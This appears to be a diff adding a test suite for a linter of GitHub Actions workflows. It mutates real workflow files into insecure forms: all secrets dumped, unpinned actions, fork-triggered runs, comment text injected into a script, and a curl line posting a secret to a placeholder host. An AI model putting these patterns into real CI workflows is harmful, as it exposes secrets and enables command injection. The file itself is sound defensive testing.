@@ -1,0 +1,226 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are GitHub's expressions, not templates
+/** Each rule for workflow files is shown to refuse what breaks it. */
+
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { workflowProblems } from './workflow-rules.ts';
+
+const ROOT = join(import.meta.dirname, '../..');
+const CHECKOUT = 'actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1';
+
+/** `lab/chat` = the file that a lab has; `chat` = the one that it calls. */
+function textOf(name: string): string {
+  const [folder, file] = name.startsWith('lab/')
+    ? ['fixtures/lab/.github/workflows', `ferrybot-${name.slice(4)}.yml`]
+    : ['.github/workflows', `${name}.yml`];
+  return readFileSync(join(ROOT, folder, file), 'utf8');
+}
+
+function broken(name: string, from: string | RegExp, to: string): readonly string[] {
+  const before = textOf(name);
+  const after = before.replace(from, to);
+  expect(after, 'the example no longer holds what this test changes').not.toBe(before);
+  return workflowProblems(after);
+}
+
+describe('the rules', () => {
+  it.each<[string, string, string | RegExp, string, string]>([
+    ['rights for every job', 'chat', 'permissions: {}', 'permissions: {contents: write}', 'top-permissions'],
+    ['the default rights', 'chat', 'permissions: {}\n', '', 'top-permissions'],
+    ['a right that the mode does not need', 'launch', 'issues: read', 'issues: write', 'permissions'],
+    ['a right outside of the table', 'watch', 'checks: write', 'packages: write', 'permissions'],
+    ['a token for other clouds', 'stop', 'checks: write', 'id-token: write', 'permissions'],
+    ['all rights', 'propose', /permissions:\n( {6}.*\n)+/, 'permissions: write-all\n', 'permissions'],
+    [
+      'a right that the called job does not need',
+      'lab/daily',
+      'issues: write',
+      'packages: write',
+      'permissions',
+    ],
+    [
+      'a call that hands on the default rights',
+      'lab/daily',
+      / {4}permissions:\n( {6}.*\n)+/,
+      '',
+      'permissions',
+    ],
+    ['a tag instead of a commit', 'chat', /@[0-9a-f]{40}/, '@v1', 'pin'],
+    ['half a commit', 'watch', /@([0-9a-f]{7})[0-9a-f]{33}/, '@$1', 'pin'],
+    ['an action that nobody checked', 'chat', /ferrybot\/ferrybot@/, 'someone/action@', 'pin'],
+    ['a called workflow at a branch', 'lab/chat', /chat\.yml@[0-9a-f]{40}/, 'chat.yml@main', 'pin'],
+    ['a called workflow of somebody else', 'lab/chat', 'ferrybot/ferrybot/', 'someone/ferrybot/', 'pin'],
+    ['a called workflow that is not ours', 'lab/chat', 'workflows/chat.yml', 'workflows/ci.yml', 'pin'],
+    [
+      "the runner's key in the chat",
+      'chat',
+      'secrets.FERRYBOT_CONTROL_KEY',
+      'secrets.FERRYBOT_RUNNER_KEY',
+      'secrets',
+    ],
+    [
+      'a second key in the launch',
+      'launch',
+      'with:',
+      'with:\n          key: ${{ secrets.FERRYBOT_CONTROL_KEY }}',
+      'secrets',
+    ],
+    [
+      "the cluster's token in the chat",
+      'chat',
+      'with:',
+      'with:\n          key: ${{ secrets.RAY_AUTH_TOKEN }}',
+      'secrets',
+    ],
+    ['all secrets at once', 'watch', 'with:', 'with:\n          all: ${{ toJSON(secrets) }}', 'secrets'],
+    [
+      'secrets by a computed name',
+      'watch',
+      'with:',
+      'with:\n          one: ${{ secrets[inputs.cluster] }}',
+      'secrets',
+    ],
+    [
+      'all secrets handed on',
+      'lab/daily',
+      /secrets:\n {6}FERRYBOT_CONTROL_KEY: .*/,
+      'secrets: inherit',
+      'secrets',
+    ],
+    [
+      "another job's key handed on",
+      'lab/daily',
+      'secrets.FERRYBOT_CONTROL_KEY',
+      'secrets.FERRYBOT_WATCH_KEY',
+      'secrets',
+    ],
+    ['a job without its key', 'stop', /^.*FERRYBOT_WATCH_KEY: \$.*\n/m, '', 'secrets'],
+    [
+      'a launch outside of its environment',
+      'launch',
+      '    environment: ferrybot-launch\n',
+      '',
+      'environment',
+    ],
+    [
+      "a watch in the launch's environment",
+      'watch',
+      'environment: ferrybot-watch',
+      'environment: ferrybot-launch',
+      'environment',
+    ],
+    ['a stop without an environment', 'lab/stop', '    environment: ferrybot-watch\n', '', 'environment'],
+    [
+      "a chat inside of the launch's environment",
+      'chat',
+      '    runs-on:',
+      '    environment: ferrybot-launch\n    runs-on:',
+      'environment',
+    ],
+    [
+      'a launch on a machine of anybody',
+      'launch',
+      '[self-hosted, ferrybot-launch]',
+      'ubuntu-latest',
+      'runner',
+    ],
+    ['a watch that stands in front of a launch', 'watch', 'ferrybot-watch]', 'ferrybot-launch]', 'runner'],
+    ['a stop that waits behind a watch', 'stop', 'ferrybot-stop]', 'ferrybot-watch]', 'runner'],
+    ['a chat on a machine of the lab', 'chat', 'ubuntu-latest', '[self-hosted, ferrybot-launch]', 'runner'],
+    ['a container beside a key', 'watch', '    steps:', '    container: node\n    steps:', 'container'],
+    ['a concurrency group', 'lab/watch', 'jobs:', 'concurrency: watch\n\njobs:', 'concurrency'],
+    ['no timeout', 'propose', '    timeout-minutes: 10\n', '', 'timeout'],
+    ['a watch that outlives its token', 'watch', 'timeout-minutes: 1260', 'timeout-minutes: 1440', 'timeout'],
+    ['a chat that outlives its machine', 'chat', 'timeout-minutes: 10', 'timeout-minutes: 360', 'timeout'],
+    ["a fork's events with our secrets", 'lab/chat', '  pull_request:', '  pull_request_target:', 'trigger'],
+    [
+      "the end of a fork's run",
+      'lab/chat',
+      '  issues:',
+      '  workflow_run: {workflows: [ci]}\n  issues:',
+      'trigger',
+    ],
+    [
+      'a comment that reaches the machine of a launch',
+      'lab/launch',
+      'on:\n',
+      'on:\n  issue_comment:\n',
+      'machine',
+    ],
+    ['a push that reaches the machine of a watch', 'lab/watch', 'on:\n', 'on:\n  push:\n', 'machine'],
+    ['a variable for every job', 'lab/daily', 'jobs:', 'env: {A: b}\n\njobs:', 'env'],
+    [
+      'an input of any type',
+      'launch',
+      /( {8}description: Digest.*\n {8}required: true\n) {8}type: string\n/,
+      '$1',
+      'inputs',
+    ],
+    [
+      'who acted told by a name',
+      'lab/chat',
+      "github.event_name != 'issue_comment'",
+      "github.actor == 'mira'",
+      'actor',
+    ],
+    ['a script beside ferrybot', 'launch', 'steps:', 'steps:\n      - run: echo', 'steps'],
+    ['a checkout beside a key', 'chat', 'steps:', `steps:\n      - uses: ${CHECKOUT}`, 'checkout'],
+    [
+      'a checkout that keeps the token',
+      'ci',
+      'persist-credentials: false',
+      'persist-credentials: true',
+      'checkout',
+    ],
+    [
+      "a checkout of a pull request's head",
+      'ci',
+      'persist-credentials: false',
+      'persist-credentials: false\n          ref: ${{ github.head_ref }}',
+      'checkout',
+    ],
+    [
+      'a comment inside of a script',
+      'ci',
+      'run: .ci/run',
+      'run: echo ${{ github.event.comment.body }}',
+      'injection',
+    ],
+    ['an input inside of a script', 'ci', 'run: .ci/run', 'run: echo "${{inputs.run}}"', 'injection'],
+    ['a secret inside of a script', 'ci', 'run: .ci/run', 'run: curl -d ${{ secrets.A }} x', 'injection'],
+    [
+      'a secret in a job that needs none',
+      'ci',
+      'run: .ci/run',
+      'run: .ci/run\n        env: {A: "${{ secrets.A }}"}',
+      'secrets',
+    ],
+    ['a script that sets variables', 'ci', 'run: .ci/run', 'run: echo A=b >> "$GITHUB_ENV"', 'github-env'],
+    [
+      'a failure that is hidden',
+      'ci',
+      '      - run: .ci/run',
+      '      - continue-on-error: true\n        run: .ci/run',
+      'failure',
+    ],
+    [
+      'commands in the log',
+      'ci',
+      'run: .ci/run',
+      'run: .ci/run\n        env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: true}',
+      'commands',
+    ],
+  ])('refuse %s', (_, name, from, to, rule) => {
+    expect(broken(name, from, to).map((problem) => problem.split(':')[0])).toContain(rule);
+  });
+
+  it('take an expression that nobody outside can choose', () => {
+    const harmless = broken('ci', 'run: .ci/run', 'run: echo ${{ github.sha }}');
+    expect(harmless.filter((problem) => problem.startsWith('injection'))).toEqual([]);
+  });
+
+  it('take a smaller right than the part may have', () => {
+    expect(broken('watch', 'checks: write', 'checks: read')).toEqual([]);
+  });
+});
